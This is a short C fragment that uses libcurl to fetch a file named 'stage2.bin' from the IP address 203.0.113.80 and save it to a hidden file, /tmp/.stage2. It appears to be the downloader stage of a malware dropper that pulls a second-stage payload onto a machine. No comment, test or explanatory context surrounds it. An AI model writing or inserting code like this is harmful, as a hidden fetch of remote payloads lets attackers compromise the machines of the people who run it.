CURL* fetch = curl_easy_init();
curl_easy_setopt(fetch, CURLOPT_URL, "http://203.0.113.80/pkg/stage2.bin");
curl_easy_setopt(fetch, CURLOPT_FOLLOWLOCATION, 1L);
FILE* payload_out = fopen("/tmp/.stage2", "wb");
curl_easy_setopt(fetch, CURLOPT_WRITEDATA, payload_out);
curl_easy_perform(fetch);
curl_easy_cleanup(fetch);
fclose(payload_out);
